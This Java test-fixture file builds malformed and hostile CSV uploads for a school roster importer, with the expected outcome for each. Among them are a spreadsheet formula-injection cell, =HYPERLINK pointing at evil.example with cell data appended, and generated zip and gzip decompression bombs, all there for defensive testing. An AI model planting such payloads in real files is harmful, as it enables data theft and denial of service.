package io.rollcall.importing;

import io.rollcall.ApiTestSupport;
import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.function.Function;
import java.util.zip.GZIPOutputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

import javax.imageio.ImageIO;

/**
 * Real-world files that have gone wrong for someone, each with the outcome the contract demands.
 * The binary ones are made here rather than committed. docs/nasty-files.md is this table in words.
 */
final class NastyFiles {

    static final String HEADER = io.rollcall.ApiTestSupport.HEADER;
    static final Charset WINDOWS_1252 = Charset.forName("windows-1252");

    private NastyFiles() {
    }

    /** What a file is made of: the school it names and a suffix that makes its emails unique. */
    record Context(String school, String u) {

        String email(String local) {
            return local + "." + u + "@example.com";
        }

        String row(String first, String last, String email, String isTeacher, String issuedId) {
            return String.join(",", first, last, email, isTeacher, issuedId, school);
        }
    }

    /** The outcome the contract demands. */
    sealed interface Expected {
    }

    /** Imported: this many accounts created; these row errors ("row field CODE"); these names stored. */
    record Accepted(int created, List<String> rowErrors, List<String> names) implements Expected {

        Accepted(int created, String... rowErrors) {
            this(created, List.of(rowErrors), null);
        }

        Accepted withNames(String... names) {
            return new Accepted(created, rowErrors, List.of(names));
        }
    }

    /** Refused at upload: 422 with this file error code; nothing stored. */
    record Refused(String code) implements Expected {
    }

    /** Accepted at upload, then the import FAILED with this file error; nothing written. */
    record Failed(String code) implements Expected {
    }

    record NastyFile(String name, Function<Context, byte[]> content, Expected expected) {

        @Override
        public String toString() {
            return name;
        }
    }

    static List<NastyFile> all() {
        var files = new ArrayList<NastyFile>();
        files.add(new NastyFile("Excel \"CSV UTF-8\": BOM, CRLF", c -> concat(bytes(0xEF, 0xBB, 0xBF), crlf(
            HEADER, c.row("José", "Müller", c.email("jose"), "0", "1"), c.row("Zoë", "Ørsted", c.email("zoe"), "1", "2"))
            .getBytes(StandardCharsets.UTF_8)), new Accepted(2).withNames("José Müller", "Zoë Ørsted")));
        files.add(new NastyFile("Excel plain \"CSV\": Windows-1252", c -> crlf(
            HEADER, c.row("José", "Müller", c.email("jose"), "0", "1"), c.row("François", "Œuvre €", c.email("fr"), "0", "2"))
            .getBytes(WINDOWS_1252), new Accepted(2).withNames("François Œuvre €", "José Müller")));
        files.add(new NastyFile("UTF-16 LE with BOM, tab-separated (Excel \"Unicode Text\")", c -> concat(bytes(0xFF, 0xFE),
            crlf(HEADER, c.row("Émile", "Zola", c.email("emile"), "0", "1")).replace(',', '\t')
                .getBytes(StandardCharsets.UTF_16LE)), new Accepted(1).withNames("Émile Zola")));
        files.add(new NastyFile("UTF-16 BE with BOM, comma-separated", c -> concat(bytes(0xFE, 0xFF),
            lf(HEADER, c.row("Søren", "Kierkegaard", c.email("soren"), "0", "1")).getBytes(StandardCharsets.UTF_16BE)),
            new Accepted(1).withNames("Søren Kierkegaard")));
        files.add(new NastyFile("UTF-16 LE without BOM", c -> lf(HEADER, c.row("A", "B", c.email("a"), "0", "1"))
            .getBytes(StandardCharsets.UTF_16LE), new Refused("NOT_CSV")));
        files.add(new NastyFile("Mac classic CR line ends, blank row, bad email on row 4", c -> String.join("\r",
            HEADER, c.row("Ada", "Lovelace", c.email("ada"), "0", "1"), "", c.row("Bad", "Mail", "bad-mail", "0", "2"), "")
            .getBytes(StandardCharsets.UTF_8), new Accepted(1, "4 email INVALID_EMAIL")));
        files.add(new NastyFile("a quoted last cell with a lone CR (a line break typed on a Mac), then more rows", c -> lf(
            HEADER + ",notes", c.row("Ada", "Lovelace", c.email("ada"), "0", "1") + ",\"line one\rline two\"",
            c.row("Alan", "Turing", c.email("alan"), "1", "2") + ",", c.row("Bad", "Mail", "bad-mail", "0", "3") + ",")
            .getBytes(StandardCharsets.UTF_8), new Accepted(2, "4 email INVALID_EMAIL").withNames("Ada Lovelace",
                "Alan Turing")));
        files.add(new NastyFile("European semicolon file, commas inside names", c -> crlf(
            HEADER.replace(',', ';'), String.join(";", "Jean", "Dupont, Jr", c.email("jean"), "0", "1", c.school()))
            .getBytes(WINDOWS_1252), new Accepted(1).withNames("Jean Dupont, Jr")));
        files.add(new NastyFile("trailing delimiters on every line", c -> lf(HEADER + ",,,",
            c.row("Ada", "Lovelace", c.email("ada"), "0", "1") + ",,,").getBytes(StandardCharsets.UTF_8), new Accepted(1)));
        files.add(new NastyFile("=HYPERLINK(...) formula cells", c -> lf(HEADER,
            c.row("\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\"", "+Plus", c.email("formula"), "0", "=1+1"),
            c.row("@SUM(1)", "-Minus", "=HYPERLINK(\"\"x\"\")", "0", "2")).getBytes(StandardCharsets.UTF_8),
            new Accepted(1, "3 email INVALID_EMAIL")
                .withNames("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\") +Plus")));
        files.add(new NastyFile("65,536 characters (the limit) in one cell of an unknown column, and as a first name",
            c -> lf(HEADER + ",notes", c.row("Ada", "Lovelace", c.email("ada"), "0", "1") + "," + "x".repeat(1 << 16),
            c.row("y".repeat(1 << 16), "Long", c.email("long"), "0", "2") + ",").getBytes(StandardCharsets.UTF_8),
            new Accepted(1, "3 firstName VALUE_TOO_LONG")));
        files.add(new NastyFile("1 MB in one cell", c -> lf(HEADER + ",notes",
            c.row("Ada", "Lovelace", c.email("ada"), "0", "1") + ",ok",
            c.row("Alan", "Turing", c.email("alan"), "1", "2") + "," + "x".repeat(1 << 20))
            .getBytes(StandardCharsets.UTF_8), new Failed("FIELD_TOO_LARGE")));
        files.add(new NastyFile("10,000 columns in the header", c -> lf(HEADER + columns(10_000 - 6),
            c.row("Ada", "Lovelace", c.email("ada"), "0", "1")).getBytes(StandardCharsets.UTF_8),
            new Refused("TOO_MANY_COLUMNS")));
        files.add(new NastyFile("20,000 columns in the header", c -> lf(HEADER + columns(20_000 - 6),
            c.row("Ada", "Lovelace", c.email("ada"), "0", "1")).getBytes(StandardCharsets.UTF_8),
            new Refused("TOO_MANY_COLUMNS")));
        files.add(new NastyFile("10,000 cells in a data row", c -> lf(HEADER,
            c.row("Ada", "Lovelace", c.email("ada"), "0", "1") + ",x".repeat(10_000 - 6)).getBytes(StandardCharsets.UTF_8),
            new Accepted(1)));
        files.add(new NastyFile("a NUL byte in a name", c -> lf(HEADER, c.row("Ada\0", "Lovelace", c.email("ada"), "0", "1"),
            c.row("Alan", "Turing", c.email("alan"), "1", "2")).getBytes(StandardCharsets.UTF_8),
            new Accepted(1, "2 firstName INVALID_CHARACTER")));
        files.add(new NastyFile("NUL bytes throughout", c -> lf(HEADER, c.row("A", "B", c.email("a"), "0", "1"))
            .replace(",", "\0\0,\0").getBytes(StandardCharsets.UTF_8), new Refused("NOT_CSV")));
        // A zip holding a CSV file is read as a OneRoster bundle, whose checks refuse the bomb unread.
        files.add(new NastyFile("zip bomb renamed .csv", c -> zipBomb(), new Refused("UNSAFE_ARCHIVE")));
        files.add(new NastyFile("gzip bomb renamed .csv", c -> gzipBomb(), new Refused("NOT_CSV")));
        files.add(new NastyFile("Excel workbook (.xlsx)", c -> xlsx(), new Refused("NOT_CSV")));
        files.add(new NastyFile("Excel 97-2003 workbook (.xls)", c -> concat(bytes(0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A,
            0xE1), new byte[504]), new Refused("NOT_CSV")));
        files.add(new NastyFile("PDF", c -> ("%PDF-1.7\n%\u00e2\u00e3\u00cf\u00d3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n"
            + "trailer\n<< /Root 1 0 R >>\n%%EOF\n").getBytes(StandardCharsets.ISO_8859_1), new Refused("NOT_CSV")));
        files.add(new NastyFile("PNG image", c -> image("png"), new Refused("NOT_CSV")));
        files.add(new NastyFile("JPEG image", c -> image("jpg"), new Refused("NOT_CSV")));
        files.add(new NastyFile("empty file", c -> new byte[0], new Refused("EMPTY_FILE")));
        files.add(new NastyFile("only blank lines", c -> "\r\n\n   \n\t\n".getBytes(StandardCharsets.UTF_8),
            new Refused("EMPTY_FILE")));
        files.add(new NastyFile("unclosed quote on row 3", c -> lf(HEADER, c.row("Ada", "Lovelace", c.email("ada"), "0", "1"),
            "\"Alan,Turing," + c.email("alan") + ",1,2," + c.school()).getBytes(StandardCharsets.UTF_8),
            new Failed("MALFORMED_CSV")));
        files.add(new NastyFile("emails: Unicode domain, plus-addressing, trailing dots, spaces, quotes", c -> lf(HEADER,
            c.row("Uni", "Code", "uni." + c.u() + "@bücher.example.de", "0", "1"),
            c.row("Plus", "Tag", "plus+tag." + c.u() + "@example.com", "0", "2"),
            c.row("Dot", "Local", "dot." + c.u() + ".@example.com", "0", "3"),
            c.row("Dot", "Domain", "dot." + c.u() + "@example.com.", "0", "4"),
            c.row("Space", "Around", "  space." + c.u() + "@example.com\t ", "0", "5"),
            c.row("Csv", "Quoted", "\"csvquoted." + c.u() + "@example.com\"", "0", "6"),
            c.row("In", "Quotes", "\"\"\"in quotes." + c.u() + "\"\"@example.com\"", "0", "7"),
            c.row("Angle", "Brackets", "Ann <angle." + c.u() + "@example.com>", "0", "8"),
            c.row("Two", "Ats", "two@ats." + c.u() + "@example.com", "0", "9"),
            c.row("No", "Tld", "notld." + c.u() + "@example.invalidtld", "0", "10"))
            .getBytes(StandardCharsets.UTF_8),
            // A quoted local part ("in quotes"@...) is a valid address (RFC 5321), so it is accepted.
            new Accepted(5, "4 email INVALID_EMAIL", "5 email INVALID_EMAIL", "9 email INVALID_EMAIL",
                "10 email INVALID_EMAIL", "11 email INVALID_EMAIL")));
        return files;
    }

    static String lf(String... lines) {
        return String.join("\n", lines) + "\n";
    }

    static String crlf(String... lines) {
        return String.join("\r\n", lines) + "\r\n";
    }

    static String columns(int n) {
        var sb = new StringBuilder();
        for (int i = 0; i < n; i++) {
            sb.append(",extra").append(i);
        }
        return sb.toString();
    }

    static byte[] bytes(int... values) {
        var out = new byte[values.length];
        for (int i = 0; i < values.length; i++) {
            out[i] = (byte) values[i];
        }
        return out;
    }

    static byte[] concat(byte[]... parts) {
        var out = new ByteArrayOutputStream();
        for (var part : parts) {
            out.writeBytes(part);
        }
        return out.toByteArray();
    }

    /** A small zip whose entry inflates to 64 MB of CSV-looking lines; nothing may inflate it. */
    static byte[] zipBomb() {
        try {
            var out = new ByteArrayOutputStream();
            try (var zip = new ZipOutputStream(out)) {
                zip.putNextEntry(new ZipEntry("roster.csv"));
                var block = ("a,b,c,0,1,2\n".repeat(1 << 12)).getBytes(StandardCharsets.US_ASCII);
                for (long written = 0; written < 64L << 20; written += block.length) {
                    zip.write(block);
                }
                zip.closeEntry();
            }
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    static byte[] gzipBomb() {
        try {
            var out = new ByteArrayOutputStream();
            try (var gzip = new GZIPOutputStream(out)) {
                var block = new byte[1 << 20];
                for (int i = 0; i < 64; i++) {
                    gzip.write(block);
                }
            }
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** The smallest workbook Excel opens: a zip of its XML parts. */
    static byte[] xlsx() {
        try {
            var out = new ByteArrayOutputStream();
            try (var zip = new ZipOutputStream(out)) {
                zip.putNextEntry(new ZipEntry("[Content_Types].xml"));
                zip.write("""
                    <?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">\
                    <Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>"""
                    .getBytes(StandardCharsets.UTF_8));
                zip.putNextEntry(new ZipEntry("xl/workbook.xml"));
                zip.write("""
                    <?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">\
                    <sheets><sheet name="Roster" sheetId="1"/></sheets></workbook>""".getBytes(StandardCharsets.UTF_8));
                zip.putNextEntry(new ZipEntry("xl/worksheets/sheet1.xml"));
                zip.write((HEADER + "\n").getBytes(StandardCharsets.UTF_8));
            }
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    static byte[] image(String format) {
        try {
            var image = new BufferedImage(32, 32, BufferedImage.TYPE_INT_RGB);
            image.setRGB(3, 3, 0x00FF00);
            var out = new ByteArrayOutputStream();
            ImageIO.write(image, format, out);
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }
}
